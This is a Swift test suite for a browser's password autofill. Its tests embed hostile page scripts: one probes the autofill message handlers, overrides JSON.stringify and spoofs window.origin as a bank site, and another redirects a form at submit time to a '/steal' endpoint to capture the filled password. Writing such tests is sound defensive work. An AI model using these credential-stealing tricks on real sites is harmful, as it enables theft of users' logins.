import Foundation
import Testing
import VoyagerCore
import VoyagerTesting

extension WebKitTests {
  @MainActor @Suite("Filling forms")
  struct FillTests {
    private func route(_ page: FillZoo.Page, on stage: FormStage) {
      let body = page.body.replacingOccurrences(of: "OTHER", with: stage.otherOrigin)
      let html = "<!DOCTYPE html><body>\(body)\(FormStage.watcher)"
      let headers = page.headers
      stage.server.on("/page") { _ in
        var response = HTTPResponse.html(html)
        response.headers.merge(headers) { $1 }
        return response
      }
    }

    @Test("Each page of the zoo gets what it must, and no more")
    func zoo() async throws {
      try await severalAtOnce(FillZoo.pages.count) { try await check(FillZoo.pages[$0]) }
    }

    private func check(_ page: FillZoo.Page) async throws {
      let stage = try FormStage()
      let frame =
        "<!DOCTYPE html><form method=post><input name=user><input type=password></form>" + FormStage.watcher
      stage.server.on("/frame") { _ in .html(frame) }
      let around = "<!DOCTYPE html><iframe src=\(stage.origin)/frame width=400 height=200></iframe>"
      stage.server.on("/around") { _ in .html(around) }
      route(page, on: stage)
      try await stage.save("ann", "one")
      #expect(try await stage.fields(at: "/page") == page.fields ?? "", "\(page.name)")
    }

    @Test("The page's own scripts neither see the world nor call its handlers")
    func isolated() async throws {
      let stage = try FormStage()
      try await stage.save("ann", "one")
      stage.server.page(
        "/page",
        """
        <script>
        const seen = []
        for (const name of ['form', 'formEvent']) {
          try { webkit.messageHandlers[name].postMessage('{}'); seen.push(name) } catch {}
        }
        // Whatever a page puts in the place of what scripts use, the other world has its own.
        JSON.stringify = () => seen.push('stringify')
        HTMLInputElement.prototype.focus = () => {}
        Object.defineProperty(window, 'origin', { get: () => 'https://bank.example' })
        document.title = 'told ' + seen.join()
        </script>
        """)
      #expect(try await stage.fields(at: "/page") == "")
    }

    @Test("Nothing is filled in at the other sites of one machine")
    func otherPort() async throws {
      let (stage, other) = (try FormStage(), try FormStage())
      try await stage.save("ann", "one", at: other.origin)
      stage.server.page("/page", "<form><input name=user><input type=password></form>" + FormStage.watcher)
      #expect(try await stage.fields(at: "/page") == "")
      #expect(try await stage.fields(at: "/page", on: stage.otherOrigin) == "")
    }

    @Test("A form that turns to another site while it is sent leaves behind what it got")
    func turned() async throws {
      let stage = try FormStage()
      try await stage.save("ann", "one")
      stage.server.page("/steal", "<title>told stolen</title>")
      stage.server.page(
        "/page",
        """
        <form method=get action=/go><input name=user><input type=password name=pass></form>
        <script>
        const form = document.forms[0]
        form.addEventListener('submit', () => form.action = '\(stage.otherOrigin)/steal')
        const wait = setInterval(() => {
          if (!form.pass.value) return
          clearInterval(wait)
          form.requestSubmit()
        }, 50)
        </script>
        """)
      _ = try await stage.fields(at: "/page")
      let sent = stage.server.requests(for: "/steal")
      #expect(sent.count == 1)
      #expect(!sent.contains { "\($0)".contains("one") })
    }
  }
}
